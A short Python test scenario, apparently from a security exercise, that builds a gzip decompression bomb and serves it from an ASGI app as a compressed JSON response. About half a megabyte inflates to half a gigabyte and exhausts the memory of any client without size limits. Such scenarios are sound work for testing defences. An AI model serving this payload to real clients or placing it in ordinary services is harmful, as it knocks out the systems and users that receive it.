"""Answers with half a megabyte that a client unpacks to half a gigabyte.

succeeds: harmed
stopped by: limits
control: none, a client without a limit fills its memory
exercise: middleware-onion
"""

import zlib

packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
BLOCK = packer.compress(bytes(8 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)  # can be repeated as it is
BOMB = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + BLOCK * 64


def create_app(audit):
    async def app(scope, receive, send):
        headers = [(b"content-encoding", b"gzip"), (b"content-type", b"application/json")]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        await send({"type": "http.response.body", "body": BOMB})

    return app
